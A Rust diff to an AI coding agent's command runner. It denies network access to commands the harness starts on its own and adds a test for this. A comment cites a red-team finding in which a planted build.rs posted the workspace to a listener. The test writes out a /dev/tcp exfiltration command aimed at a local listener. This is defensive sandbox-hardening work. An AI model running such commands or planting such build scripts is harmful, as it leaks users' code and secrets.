@@ -2,7 +2,8 @@
 //! rollback commands): a thin adapter over keel-tools' one command runner
 //! ([`keel_tools::shell::exec`]), so these commands get exactly what the model's
 //! `run_command` gets — the kernel sandbox (workspace-write: the workspace minus `.git`/`.keel`,
-//! a private temp dir, network off unless configured), the allowlisted environment, a timeout
+//! a private temp dir, network off unless the command line was approved or configured by the
+//! user and `shell.network` is on), the allowlisted environment, a timeout
 //! and cancellation that kill the whole process group, and bounded output.
 //!
 //! Their command lines come from configuration or detection, but what they run (a planted
@@ -41,6 +42,11 @@ pub struct CommandSpec {
     pub policy: SandboxPolicy,
     /// How much of `.git` is read-only (all of it by default).
     pub git: GitProtection,
+    /// Whether the command may have the network when `shell.network` is on: only a command
+    /// line the approval policy judged or the user configured. Off by default — a command
+    /// Keel starts on its own (a detected gate, a rollback, a flow's) runs repository code
+    /// nobody approved (red-team pass 4, R4-10).
+    pub network: bool,
 }
 
 impl CommandSpec {
@@ -58,6 +64,7 @@ impl CommandSpec {
             shell: ShellSettings::default(),
             policy: SandboxPolicy::WorkspaceWrite,
             git: GitProtection::Whole,
+            network: false,
         }
     }
 
@@ -145,7 +152,11 @@ pub async fn run_command_with_timeout(
     );
     req.timeout = spec.timeout;
     req.policy = spec.shell.policy_for(spec.policy);
-    req.roots = spec.shell.roots_for(&spec.workspace);
+    req.roots = if spec.network && spec.policy != SandboxPolicy::ReadOnly {
+        spec.shell.approved_roots_for(&spec.workspace)
+    } else {
+        spec.shell.roots_for(&spec.workspace)
+    };
     req.roots.git = spec.git;
     req.env_keep = spec.shell.env_keep.clone();
     req.env_set = spec.env.clone();
@@ -321,5 +332,60 @@ mod tests {
         assert!(out.success(), "{}", out.combined());
         assert!(out.stderr.contains("core.fsmonitor"), "{}", out.stderr);
         assert!(!dir.path().join(".git").exists(), "still in git's sight");
+    }
+
+    /// Red-team pass 4, R4-10: with `shell.network = true`, a detected gate ran a shipped
+    /// `build.rs` that posted the workspace to a listener. A command the harness starts on its
+    /// own gets no network; one the approval policy judged (or the user configured) keeps the
+    /// user's setting — the control.
+    #[cfg(target_os = "linux")]
+    #[tokio::test]
+    async fn a_command_keel_starts_on_its_own_has_no_network() {
+        let s = keel_tools::sandbox::support();
+        if !(s.mount_namespace.is_ok() && s.isolation.processes) {
+            assert!(std::env::var_os("CI").is_none(), "CI needs namespaces");
+            println!("SKIPPED: no namespaces for commands");
+            return;
+        }
+        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        std::fs::write(dir.path().join("README.md"), "PROJECT-NOTES\n")
+            .unwrap_or_else(|e| panic!("{e}"));
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap_or_else(|e| panic!("{e}"));
+        listener
+            .set_nonblocking(true)
+            .unwrap_or_else(|e| panic!("{e}"));
+        let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
+        let shell = ShellSettings {
+            network: true,
+            ..ShellSettings::default()
+        };
+        let post = format!("bash -c 'cat README.md > /dev/tcp/127.0.0.1/{port}'");
+        let reached = |l: &std::net::TcpListener| {
+            (0..25).any(|_| {
+                if l.accept().is_ok() {
+                    return true;
+                }
+                std::thread::sleep(Duration::from_millis(20));
+                false
+            })
+        };
+        let mut spec = spec(&post, dir.path(), 10_000).with_shell(&shell);
+        let out = run_command_with_timeout(&spec, &CancellationToken::new())
+            .await
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert!(
+            !reached(&listener),
+            "an unapproved command reached the network: {}",
+            out.combined()
+        );
+        spec.network = true;
+        let out = run_command_with_timeout(&spec, &CancellationToken::new())
+            .await
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert!(
+            reached(&listener),
+            "the approved control never connected: {}",
+            out.combined()
+        );
     }
 }
